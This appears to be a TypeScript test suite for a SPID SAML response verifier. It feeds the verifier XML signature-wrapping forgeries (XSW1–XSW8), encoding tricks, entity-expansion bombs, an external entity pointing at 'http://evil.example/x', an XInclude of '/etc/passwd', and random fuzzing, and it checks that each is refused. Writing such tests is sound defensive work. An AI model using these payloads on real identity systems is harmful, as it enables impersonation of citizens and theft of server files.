import fc from 'fast-check'

import { verifyResponse } from '../../activities/spid/verify-response.ts'
import { assertionXml, responseXml, signElement } from '../../sandbox/platforms/spid/saml.ts'
import { aResponse, aSigner, aStatement, citizen, idp, otherCitizen, received } from './support/saml.ts'

// A response bent in the ways that have broken other programs: whatever comes out, never another person and never a crash.

const signer = aSigner()
const verify = (xml: string | Uint8Array) =>
  verifyResponse(typeof xml === 'string' ? Buffer.from(xml) : xml, {
    requestId: '_request1',
    audience: 'https://comune.example.org/spid',
    recipient: 'https://comune.example.org/spid/acs',
    receivedAt: received,
    minLevel: 2,
    certificatesOf: (entityId: string) => (entityId === idp ? [signer.certificatePem] : []),
  })
const verdict = (xml: string | Uint8Array) => {
  const found = verify(xml)
  return found.ok ? found.identity.fiscalCode : found.reason
}

const good = aResponse(signer)
const signedAssertion = signElement(assertionXml(aStatement()), 'Assertion', signer)
const assertionOnly = responseXml(aStatement(), signedAssertion)
const evilAssertion = assertionXml(aStatement({ assertionId: '_evil', citizen: otherCitizen }))
const evilResponse = (inside: string) => responseXml(aStatement({ responseId: '_evil' }), inside)
const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(signedAssertion)![0]
const bare = signedAssertion.replace(signature, '')
const outer = /<ds:Signature .*?<\/ds:Signature>/s.exec(good)![0]
const within = (assertion: string, inside: string) => assertion.replace('</saml:Issuer>', `</saml:Issuer>${inside}`)
const object = (what: string) => signature.replace('</ds:Signature>', `<ds:Object>${what}</ds:Object></ds:Signature>`)
const extensions = (what: string) => `<samlp:Extensions>${what}</samlp:Extensions>`

describe('signature wrapping', () => {
  const attacks: [string, string][] = [
    [
      'XSW1: the signed response inside the signature of a forged one',
      evilResponse(evilAssertion).replace(
        '</saml:Issuer>',
        `</saml:Issuer>${outer.replace('</ds:Signature>', `<ds:Object>${good}</ds:Object></ds:Signature>`)}`,
      ),
    ],
    [
      'XSW2: the signature before, the signed response beside it',
      evilResponse(evilAssertion).replace('</saml:Issuer>', `</saml:Issuer>${outer}${good}`),
    ],
    [
      'XSW3: the forged assertion before the signed one',
      assertionOnly.replace('<saml:Assertion', `${evilAssertion}<saml:Assertion`),
    ],
    [
      'XSW4: the signed assertion inside the forged one',
      evilResponse(evilAssertion.replace('</saml:Assertion>', `${signedAssertion}</saml:Assertion>`)),
    ],
    [
      'XSW5: the signature in the forged one, the signed one at the end',
      evilResponse(`${within(evilAssertion, signature)}${bare}`),
    ],
    [
      'XSW6: the signed one in the signature in the forged one',
      evilResponse(within(evilAssertion, signature.replace('</ds:Signature>', `${bare}</ds:Signature>`))),
    ],
    [
      'XSW7: the forged one in the extensions',
      assertionOnly.replace('<samlp:Status>', `${extensions(evilAssertion)}<samlp:Status>`),
    ],
    [
      'XSW8: the signed one in an object of the signature of the forged one',
      evilResponse(within(evilAssertion, object(bare))),
    ],
  ]
  it.each(attacks)('%s', (_what, xml) => {
    expect(xml).toContain(otherCitizen.fiscalCode)
    expect(['one-assertion', 'signature-place', 'not-signed', 'duplicate-id', 'not-a-response']).toContain(verdict(xml))
  })
  it('and what they were made of is good', () => {
    expect([verdict(good), verdict(assertionOnly)]).toEqual([citizen.fiscalCode, citizen.fiscalCode])
  })
})

describe('encodings', () => {
  const swapped = Buffer.from(`\uFEFF${good}`, 'utf16le').swap16()
  it.each<[string, Uint8Array]>([
    ['UTF-16', Buffer.from(`\uFEFF${good}`, 'utf16le')],
    ['UTF-16, big end first', swapped],
    ['UTF-32', Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(good, 'utf16le')])],
    [
      'an overlong sequence',
      Buffer.from(
        Buffer.from(good).toString('latin1').replace('<samlp:Status>', '\xc0\xbcx/><samlp:Status>'),
        'latin1',
      ),
    ],
    ['NUL', Buffer.from(good.replace('<samlp:Status>', '\0<samlp:Status>'))],
    [
      'UTF-7 declared, a DOCTYPE hidden in it',
      Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-${good}`),
    ],
  ])('%s is refused', (_what, bytes) => {
    expect(['unreadable', 'doctype-or-size']).toContain(verdict(bytes))
  })
})

describe('what costs more to read than to send', () => {
  const deep = (count: number) => `${'<a>'.repeat(count)}${'</a>'.repeat(count)}`
  const put = (what: string) => good.replace('<samlp:Status>', `${extensions(what)}<samlp:Status>`)
  it.each([
    ['nested 15,000 deep', put(deep(15_000))],
    ['10,000 attributes', put(`<a ${Array.from({ length: 10_000 }, (_, n) => `a${n}="x"`).join(' ')}/>`)],
    ['5,000 signatures', put('<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>'.repeat(3000))],
    [
      'an entity that grows',
      `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${good.replace(citizen.fiscalCode, '&b;')}`,
    ],
    ['a parameter entity from elsewhere', `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]>${good}`],
    ['an entity that nobody named', good.replace(citizen.fiscalCode, '&unknown;')],
    ['a section of raw text', good.replace(citizen.fiscalCode, `<![CDATA[${otherCitizen.fiscalCode}]]>`)],
    ['an inclusion', put('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')],
    ['an encrypted assertion', responseXml(aStatement(), '<saml:EncryptedAssertion/>')],
  ])('%s is refused', (_what, xml) => {
    const found = verify(xml)
    expect(found).toMatchObject({ ok: false, text: expect.stringMatching(/\.$/) })
  })
})

describe('chance', () => {
  const bytes = Buffer.from(good)
  const options = {
    seed: Number(process.env['FUZZ_SEED'] ?? 20261122),
    numRuns: Number(process.env['FUZZ_RUNS'] ?? 150),
  }

  it('cut anywhere, nobody signed in', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: bytes.length - 1 }), length => {
        expect(verify(bytes.subarray(0, length)).ok).toBe(false)
      }),
      options,
    )
  })

  it('bytes changed anywhere, nobody else signed in', () => {
    const edit = fc.tuple(fc.nat(bytes.length - 1), fc.integer({ min: 0, max: 255 }))
    fc.assert(
      fc.property(fc.array(edit, { minLength: 1, maxLength: 3 }), edits => {
        const bent = Buffer.from(bytes)
        for (const [at, byte] of edits) bent[at] = byte
        const found = verify(bent)
        if (found.ok) expect(found.identity).toMatchObject({ fiscalCode: citizen.fiscalCode, level: 2, issuer: idp })
      }),
      options,
    )
  })

  it('parts moved, doubled or left out, nobody else signed in', () => {
    const parts = good.split(/(?=<)/)
    const at = fc.nat(parts.length - 1)
    fc.assert(
      fc.property(at, at, fc.constantFrom('double', 'move', 'remove', 'forge'), (from, to, how) => {
        const moved = [...parts]
        if (how !== 'double' && how !== 'forge') moved.splice(from, 1)
        if (how !== 'remove') moved.splice(to, 0, how === 'forge' ? evilAssertion : parts[from]!)
        const found = verify(moved.join(''))
        if (found.ok) expect(found.identity.fiscalCode).toBe(citizen.fiscalCode)
      }),
      options,
    )
  })
})
